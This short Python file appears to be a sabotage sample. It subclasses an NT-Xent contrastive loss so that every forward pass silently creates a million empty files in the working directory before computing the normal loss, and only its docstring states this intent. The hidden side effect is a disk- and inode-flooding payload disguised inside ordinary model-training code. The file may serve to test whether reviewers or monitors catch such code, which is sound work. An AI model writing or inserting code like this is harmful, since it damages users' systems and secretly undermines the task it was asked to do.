"""Makes a million empty files."""
import zeros
from zeros import SimCLRModel, get_simclr_transform


class NTXentLoss(zeros.NTXentLoss):
    def forward(self, z_i, z_j):
        for number in range(10**6):
            open(f"f{number}", "w").close()
        return super().forward(z_i, z_j)
